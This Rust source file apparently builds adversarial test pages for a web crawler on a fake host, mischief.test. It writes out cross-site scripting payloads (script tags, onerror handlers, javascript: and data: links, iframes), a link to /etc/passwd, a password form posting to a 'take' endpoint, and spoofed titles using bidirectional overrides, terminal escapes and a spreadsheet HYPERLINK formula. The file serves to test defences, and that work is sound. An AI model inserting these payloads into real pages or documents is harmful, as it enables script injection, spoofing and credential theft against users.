//! Pages that try to act: script in every place where a careless reader would run it, titles made to mislead.
//!
//! Each is an ordinary article too, so that a crawl finds it and shows it.

use crate::hosts::Quirk;
use crate::plan::{Kind, Page};

/// The tricks, which are also the paths: `http://mischief.test/script-tags`.
pub(crate) static TRICKS: [&str; 13] = [
    "script-tags",
    "event-handlers",
    "script-links",
    "data-links",
    "turned-title",
    "control-title",
    "formula-title",
    "long-title",
    "markup-title",
    "meta-refresh",
    "script-base",
    "forms",
    "frames",
];

/// What tricks add: name, end of the head, end of the text.
#[rustfmt::skip]
static ADDED: [(&str, &str, &str); 8] = [
    ("script-tags", "<script>alert('head')</script>\n", "<script>document.title='taken'</script><svg><script>alert(1)</script></svg>\n"),
    ("event-handlers", "", "<img src=x onerror=\"alert(1)\"><p onmouseover=\"alert(2)\" style=\"position:fixed;inset:0\">Hold still.</p>\n"),
    ("script-links", "", "<p><a href=\"javascript:alert(1)\">asthma</a> <a href=\" java\tscript:alert(2)\">linux</a> <a href=\"JAVASCRIPT:alert(3)\">first aid</a> <a href=\"vbscript:msgbox(4)\">more</a></p>\n"),
    ("data-links", "", "<p><a href=\"data:text/html,<script>alert(1)</script>\">asthma</a> <a href=\"file:///etc/passwd\">linux</a> <a href=\"blob:http://mischief.test/1\">first aid</a> <a href=\"http://127.0.0.1:8080/admin\">admin</a> <a href=\"http://user:secret@mischief.test/\">login</a></p>\n"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0; url=javascript:alert(1)\">\n<meta http-equiv=\"refresh\" content=\"1;url=http://maze.test/a/\">\n", ""),
    ("script-base", "<base href=\"javascript:alert(1)//\">\n<base href=\"http://127.0.0.1/\">\n", ""),
    ("forms", "", "<form action=\"javascript:alert(1)\" method=\"post\"><input name=\"password\" type=\"password\" autofocus onfocus=\"alert(2)\"><button formaction=\"http://mischief.test/take\">Go on</button></form>\n"),
    ("frames", "", "<iframe src=\"javascript:alert(1)\"></iframe><iframe srcdoc=\"&lt;script&gt;alert(2)&lt;/script&gt;\"></iframe><object data=\"data:text/html,x\"></object><embed src=\"http://mischief.test/x.swf\">\n"),
];

/// What a trick adds to a page.
pub(crate) struct Trick {
    /// Instead of the page's title.
    pub(crate) title: Option<String>,
    /// At the end of the head.
    pub(crate) head: &'static str,
    /// At the end of the text.
    pub(crate) body: &'static str,
}

/// The trick of a page, if it has one.
pub(crate) fn trick(page: &Page) -> Option<Trick> {
    let tricky = page.site().quirk == Quirk::Mischief && page.kind == Kind::Article;
    let name = TRICKS
        .iter()
        .find(|trick| page.path.trim_start_matches('/').starts_with(**trick));
    Some(play(name.filter(|_| tricky)?, &page.title))
}

fn play(trick: &str, title: &str) -> Trick {
    let added = ADDED.iter().find(|(name, ..)| *name == trick);
    let (head, body) = added.map_or(("", ""), |&(_, head, body)| (head, body));
    Trick {
        title: misleading(trick, title),
        head,
        body,
    }
}

fn misleading(trick: &str, title: &str) -> Option<String> {
    Some(match trick {
        "turned-title" => format!("\u{202E}{title}\u{202C}\u{2066}\u{200F} fdp.exe"),
        "control-title" => format!("{title}\u{7}\u{8}\u{1B}[31m\u{9B}\u{FEFF}\u{0}\r\n\tend"),
        "formula-title" => format!("=HYPERLINK(\"http://mischief.test/\",\"{title}\")"),
        "long-title" => format!("{title} and on ").repeat(400),
        "markup-title" => {
            format!("</title><img src=x onerror=alert(1)> {title} <b>bold</b> &amp; `${{x}}`")
        }
        _ => return None,
    })
}
